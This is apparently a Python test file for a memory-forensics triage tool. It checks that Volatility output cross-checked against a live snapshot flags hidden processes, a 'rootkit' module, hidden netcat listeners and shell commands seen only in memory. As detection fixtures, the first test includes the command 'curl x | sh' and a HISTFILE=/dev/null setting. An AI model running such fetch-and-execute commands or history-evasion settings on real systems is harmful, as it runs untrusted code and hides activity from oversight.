"""Cross-views of memory rows against a live snapshot: what differs and is not explained by timing is a
finding, with pointers to both sides; what started after the snapshot is not."""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path

from agent.analysis.findings import AnalysisRows, memory_findings

SNAPSHOT = "2026-11-23T10:00:00.000000Z"


def _bundle(path: Path, streams: dict[str, list[dict]]) -> Path:
    custody = {"artifacts": [{"name": "processes", "started_utc": SNAPSHOT, "ended_utc": SNAPSHOT},
                             {"name": "network.connections", "started_utc": SNAPSHOT, "ended_utc": SNAPSHOT}]}
    members = {"triagent/custody.json": json.dumps(custody).encode()}
    for stream, rows in streams.items():
        members[f"triagent/artifacts/{stream}.jsonl"] = b"".join(json.dumps(r).encode() + b"\n" for r in rows)
    with tarfile.open(path, "w") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


def _rows(members: dict[str, bytes], plugin: str, rows: list[dict]) -> None:
    """This analysis's records of one plugin, as the analysis bundle holds them."""
    members[f"triagent/artifacts/volatility.{plugin}.jsonl"] = "".join(json.dumps(r) + "\n" for r in rows).encode()


def _findings(tmp_path: Path, live: dict[str, list[dict]], rows: dict[str, bytes] | None = None
              ) -> dict[str, list[dict]]:
    with tarfile.open(_bundle(tmp_path / "b.tar", live)) as tar:
        found = [r.data for r in memory_findings(tar, AnalysisRows(rows))]
    by_kind: dict[str, list[dict]] = {}
    for f in found:
        by_kind.setdefault(f["kind"], []).append(f)
    return by_kind


def test_processes_modules_listeners_and_commands(tmp_path):
    rows: dict[str, bytes] = {}
    live_processes = [{"pid": 1, "name": "init", "start_time_utc": "2026-11-23T09:00:00Z"},
                      {"pid": 300, "name": "nc", "start_time_utc": "2026-11-23T09:50:00Z"}]
    _rows(rows, "linux.pslist.PsList", [
        {"PID": 1, "COMM": "init", "CREATION TIME": "2026-11-23T09:00:00+00:00"},
        {"PID": 200, "COMM": "hidden", "CREATION TIME": "2026-11-23T09:30:00+00:00"},  # before: hidden
        {"PID": 201, "COMM": "late", "CREATION TIME": "2026-11-23T10:00:05+00:00"},  # after the snapshot
        {"PID": 300, "COMM": "nc", "CREATION TIME": "2026-11-23T09:50:00+00:00"},
    ])
    _rows(rows, "linux.psscan.PsScan", [
        {"PID": 1, "COMM": "init", "EXIT_STATE": "TASK_RUNNING"},
        {"PID": 202, "COMM": "unlinked", "EXIT_STATE": "TASK_RUNNING"},
        {"PID": 203, "COMM": "zombie", "EXIT_STATE": "EXIT_DEAD"},
    ])
    _rows(rows, "linux.lsmod.Lsmod", [{"Module Name": "ext4"}, {"Module Name": "rootkit"}])
    _rows(rows, "linux.sockstat.Sockstat", [
        {"NetNS": 7, "PID": 300, "Process Name": "nc", "Proto": "TCP", "Source Port": "4444", "State": "LISTEN"},
        {"NetNS": 7, "PID": 300, "Process Name": "nc", "Proto": "TCP", "Source Port": "31337", "State": "LISTEN"},
        {"NetNS": 7, "PID": 300, "Process Name": "nc", "Proto": "TCP", "Source Port": "5000",
         "State": "ESTABLISHED"},
        {"NetNS": 99, "PID": 300, "Process Name": "nc", "Proto": "TCP", "Source Port": "8081", "State": "LISTEN"},
    ])
    _rows(rows, "linux.bash.Bash", [
        {"PID": 400, "Process": "bash", "CommandTime": "2026-11-23T09:55:00+00:00", "Command": "ls -la"},
        {"PID": 400, "Process": "bash", "CommandTime": "2026-11-23T09:56:00+00:00", "Command": "curl x | sh"},
        {"PID": 400, "Process": "bash", "CommandTime": "2026-11-23T09:56:00+00:00", "Command": "curl x | sh"},
    ])
    _rows(rows, "linux.envars.Envars", [{"PID": 400, "KEY": "HISTFILE", "VALUE": "/dev/null"},
                                        {"PID": 401, "KEY": "HISTFILE", "VALUE": "/root/.bash_history"}])
    found = _findings(tmp_path, {
        "processes": live_processes,
        "modules": [{"name": "ext4"}],
        "connections": [{"proto": "tcp", "local_port": 4444, "listening": True, "netns": 7,
                         "owners": [{"pid": 300, "name": "nc"}]}],
        "histories": [{"command": "ls -la"}],
    }, rows)
    assert [f["pid"] for f in found["process_hidden_from_live_view"]] == [200]
    assert [f["pid"] for f in found["process_unlinked_from_task_list"]] == [202]
    assert [f["module"] for f in found["module_in_memory_not_in_proc_modules"]] == ["rootkit"]
    assert [f["port"] for f in found["listener_hidden_from_proc_net"]] == [31337]
    assert {f["port"] for f in found["listening_socket"]} == {4444, 8081}  # 8081: a netns not read live
    both = next(f for f in found["listening_socket"] if f["port"] == 4444)
    assert both["seen_live"] and both["seen_in_memory"]
    assert {e["bundle"] for e in both["evidence"]} == {"source", "analysis"}
    assert [f["command"] for f in found["shell_command_only_in_memory"]] == ["curl x | sh"]
    assert found["shell_history_disabled"][0]["pid"] == 400 and len(found["shell_history_disabled"]) == 1
    pointer = found["process_hidden_from_live_view"][0]["evidence"][0]
    line = rows[pointer["member"]].decode().splitlines()[pointer["line"] - 1]
    assert json.loads(line)["COMM"] == "hidden"


def test_listener_opened_after_the_snapshot_is_not_hidden(tmp_path):
    rows: dict[str, bytes] = {}
    _rows(rows, "linux.sockstat.Sockstat", [
        {"NetNS": 7, "PID": 500, "Process Name": "new", "Proto": "TCP", "Source Port": "9999", "State": "LISTEN"}])
    found = _findings(tmp_path, {
        "processes": [{"pid": 1, "start_time_utc": "2026-11-23T09:00:00Z"}],  # 500 started after the snapshot
        "connections": [{"proto": "tcp", "local_port": 22, "listening": True, "netns": 7, "owners": []}],
    }, rows)
    assert "listener_hidden_from_proc_net" not in found
    assert {f["port"] for f in found["listening_socket"]} == {22, 9999}


def test_no_memory_rows_no_crossview(tmp_path):
    found = _findings(tmp_path, {"processes": [{"pid": 1}], "modules": [{"name": "ext4"}]})
    assert set(found) <= {"listening_socket"}


def test_a_stream_split_in_parts_points_at_its_part(tmp_path):
    """A stream over 32 MiB is several members (``.partNNN``): the pointer names the part and its line
    (the rows kept beside the bundle named the first member and counted lines across all parts)."""
    first = "triagent/artifacts/volatility.linux.pslist.PsList.jsonl"
    rows = {first: json.dumps({"PID": 1, "COMM": "init"}).encode() + b"\n",
            "triagent/artifacts/volatility.linux.pslist.PsList.part001.jsonl":
                b'{"PID": 7, "COMM": "x"}\n' + json.dumps({"PID": 666, "COMM": "hidden"}).encode() + b"\n"}
    found = _findings(tmp_path, {"processes": [{"pid": 1}, {"pid": 7}]}, rows)
    assert [f["evidence"][0] for f in found["process_hidden_from_live_view"]] == [
        {"bundle": "analysis", "member": "triagent/artifacts/volatility.linux.pslist.PsList.part001.jsonl", "line": 2}]


def test_rows_beyond_the_budget_are_named_not_read():
    rows = AnalysisRows(budget=64)
    rows.add("triagent/artifacts/volatility.linux.bash.Bash.jsonl", b"x" * 10)
    rows.add("triagent/artifacts/volatility.linux.lsof.Lsof.jsonl", bytes(range(256)) * 40)
    assert rows.has("linux.bash.Bash") and not rows.has("linux.lsof.Lsof")
    assert len(rows.problems) == 1 and "Lsof" in rows.problems[0]
